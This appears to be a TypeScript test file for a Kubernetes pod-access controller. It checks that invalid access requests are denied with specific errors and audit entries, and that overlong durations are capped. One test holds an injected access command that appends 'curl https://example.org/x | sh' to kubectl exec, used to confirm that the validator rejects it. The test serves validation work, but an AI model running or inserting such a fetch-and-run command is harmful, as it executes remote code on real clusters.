import assert from 'node:assert/strict';
import { accessTemplate, targetOf } from '../../support/access-manifests.ts';
import { execRequest, type Manifest, podRequest } from '../../support/access-requests.ts';
import { AccessStage } from '../../support/access-stage.ts';
import { testNamespace } from '../../support/plane.ts';

describe('a request that can never be granted is denied at creation', () => {
  let stage: AccessStage;
  let elsewhere: string;

  before(async function () {
    this.timeout(180_000);
    stage = await AccessStage.open();
    elsewhere = await testNamespace('elsewhere');
    const away = { ...targetless('away-shell'), metadata: { name: 'away-shell', namespace: elsewhere } };
    await stage.plane.kubectl(['apply', '-f', '-'], { input: JSON.stringify(away) });
    await stage.apply(targetless('aimless-shell'));
    await stage.templateReady('PodAccessTemplate', 'aimless-shell', false);
  });
  after(async () => {
    await stage?.plane.call('DELETE', `/api/v1/namespaces/${elsewhere}`);
    await stage?.close();
  });

  const targetless = (name: string): Manifest => accessTemplate('PodAccessTemplate', name, targetOf('missing'));

  type Refusal = [title: string, manifest: Manifest, code: string, status: number, message: RegExp];
  const badDurations = ['soon', '10', '1d', '0s', '-5m', '1ms'];
  const refusals: Refusal[] = [
    [
      'for a template that does not exist',
      podRequest('no-template', { templateName: 'nothing' }),
      'TemplateNotFound',
      404,
      /PodAccessTemplate "nothing" does not exist in namespace "access-[^"]+"; to list those that do: kubectl get podaccesstemplates/,
    ],
    [
      'for a template of the other kind',
      execRequest('other-kind', { templateName: 'payments-shell' }),
      'TemplateNotFound',
      404,
      /ExecAccessTemplate "payments-shell" does not exist/,
    ],
    [
      'for a template of another namespace',
      podRequest('far-template', { templateName: 'away-shell' }),
      'TemplateNotFound',
      404,
      /PodAccessTemplate "away-shell" does not exist in namespace "access-/,
    ],
    [
      'for a template that is not ready',
      podRequest('unready-template', { templateName: 'aimless-shell' }),
      'TemplateNotReady',
      403,
      /template aimless-shell is not ready: TargetRefExists is not True: Deployment "missing" does not exist in namespace access-.*\. Ask the author of the template to correct it$/,
    ],
    ...badDurations.map(
      (duration, index): Refusal => [
        `for ${JSON.stringify(duration)}`,
        podRequest(`bad-duration-${index}`, { duration }),
        'InvalidDuration',
        422,
        /spec\.duration .*for example "?30m"? or "?1h30m/,
      ],
    ),
  ];

  for (const [title, manifest, code, status, message] of refusals) {
    it(`${title}: ${code}`, async () => {
      const answer = await stage.create(stage.alice, manifest);
      assert.equal(answer.status, status, JSON.stringify(answer.body));
      assert.match((answer.body as { message: string }).message, message);
      assert.equal(await stage.read(manifest.kind, manifest.metadata.name ?? ''), undefined);
      const { name } = manifest.metadata;
      const line = await stage.auditLine(
        'the refusal',
        ({ what, verdict }) => what.name === name && verdict === 'denied',
      );
      assert.deepEqual([line['code'], line.who.user], [code, 'alice']);
    });
  }

  it('a template is denied if its access command does more than enter the pod', async () => {
    const accessCommand = 'kubectl exec -ti {{ .Metadata.Name }} -- sh; curl https://example.org/x | sh';
    const template = accessTemplate('ExecAccessTemplate', 'more-than-enter', undefined, { accessCommand });
    const answer = await stage.create(stage.plane, template);
    assert.equal(answer.status, 422, JSON.stringify(answer.body));
    assert.match((answer.body as { message: string }).message, /InvalidAccessCommand: .*accessCommand has ";" outside/);
  });

  it('a request for more than the maximum gets the maximum, with a warning and a condition', async () => {
    const { stderr } = await stage.alice.kubectl(['create', '-n', stage.namespace, '-f', '-'], {
      input: JSON.stringify(podRequest('too-long', { duration: '99h' })),
    });
    const message = /requested 99 h, limited to the template's maximum of 4 h/;
    assert.match(stderr, new RegExp(`^Warning: spec\\.duration: ${message.source}`));
    await stage.kubectl('wait', 'podaccessrequest/too-long', '--for=condition=AccessResourcesReady', '--timeout=20s');
    const conditions = await stage.kubectl(
      'get',
      'podaccessrequest',
      'too-long',
      '-o',
      'jsonpath={.status.conditions}',
    );
    assert.match(conditions, message);
  });
});
